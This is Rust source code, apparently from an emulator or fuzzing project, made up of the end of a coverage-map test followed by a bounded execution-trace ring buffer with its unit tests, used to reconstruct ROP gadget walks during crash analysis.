    #[test]
    fn reset_clears_counters_and_history() {
        let mut m = CoverageMap::new();
        m.note(0xAA);
        m.note(0xBB);
        let first = m.bytes().to_vec();
        m.reset();
        assert_eq!(m.edges(), 0);
        m.note(0xAA);
        m.note(0xBB);
        assert_eq!(m.bytes(), &first[..], "reset restarts the edge stream");
    }
}
