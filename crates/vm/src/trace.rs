//! Execution tracing: a bounded ring of (pc, sp) samples with optional
//! hook attribution — enough to reconstruct a ROP chain's gadget-by-
//! gadget walk after the fact.

use std::fmt;

use cml_image::Addr;

/// One executed step.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct TraceEntry {
    /// Program counter at the start of the step.
    pub pc: Addr,
    /// Stack pointer at the start of the step.
    pub sp: Addr,
    /// Name of the native libc hook, when the step was a hook dispatch
    /// rather than an interpreted instruction.
    pub hook: Option<&'static str>,
}

impl fmt::Display for TraceEntry {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self.hook {
            Some(name) => write!(f, "{:#010x} sp={:#010x} [{name}]", self.pc, self.sp),
            None => write!(f, "{:#010x} sp={:#010x}", self.pc, self.sp),
        }
    }
}

/// A bounded execution trace. When full, the oldest entries are
/// discarded (crash analysis cares about the *end* of the run).
#[derive(Debug, Clone)]
pub struct Trace {
    entries: Vec<TraceEntry>,
    capacity: usize,
    dropped: u64,
}

impl Trace {
    /// Creates a trace holding at most `capacity` entries.
    pub fn new(capacity: usize) -> Self {
        Trace {
            entries: Vec::with_capacity(capacity.min(4096)),
            capacity: capacity.max(1),
            dropped: 0,
        }
    }

    /// Records one step.
    pub fn push(&mut self, entry: TraceEntry) {
        if self.entries.len() == self.capacity {
            self.entries.remove(0);
            self.dropped += 1;
        }
        self.entries.push(entry);
    }

    /// The retained entries, oldest first.
    pub fn entries(&self) -> &[TraceEntry] {
        &self.entries
    }

    /// How many entries were evicted due to the capacity bound.
    pub fn dropped(&self) -> u64 {
        self.dropped
    }

    /// The last `n` entries (or fewer).
    pub fn tail(&self, n: usize) -> &[TraceEntry] {
        let start = self.entries.len().saturating_sub(n);
        &self.entries[start..]
    }

    /// Clears the trace.
    pub fn clear(&mut self) {
        self.entries.clear();
        self.dropped = 0;
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn e(pc: Addr) -> TraceEntry {
        TraceEntry {
            pc,
            sp: 0x8000,
            hook: None,
        }
    }

    #[test]
    fn bounded_ring_keeps_the_tail() {
        let mut t = Trace::new(3);
        for pc in 1..=5 {
            t.push(e(pc));
        }
        let pcs: Vec<Addr> = t.entries().iter().map(|x| x.pc).collect();
        assert_eq!(pcs, vec![3, 4, 5]);
        assert_eq!(t.dropped(), 2);
        assert_eq!(t.tail(2).len(), 2);
        assert_eq!(t.tail(99).len(), 3);
    }

    #[test]
    fn display_includes_hook() {
        let entry = TraceEntry {
            pc: 0x1000,
            sp: 0x8000,
            hook: Some("memcpy"),
        };
        assert!(entry.to_string().contains("[memcpy]"));
    }
}
